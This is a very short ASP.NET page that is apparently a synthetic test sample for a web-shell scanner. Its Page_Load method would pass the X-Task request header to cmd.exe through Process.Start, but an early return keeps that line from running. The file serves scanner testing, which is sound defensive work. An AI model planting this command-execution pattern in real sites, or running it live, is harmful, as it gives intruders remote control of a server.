<%@ Page Language="C#" %>
<%-- synthetic test sample for breachscan: process started from request input, output not read back. Inert: returns before anything runs. --%>
<script runat="server">
void Page_Load(object s, EventArgs e) {
    return;
    System.Diagnostics.Process.Start("cmd.exe", "/c " + Request.Headers["X-Task"]);
}
</script>
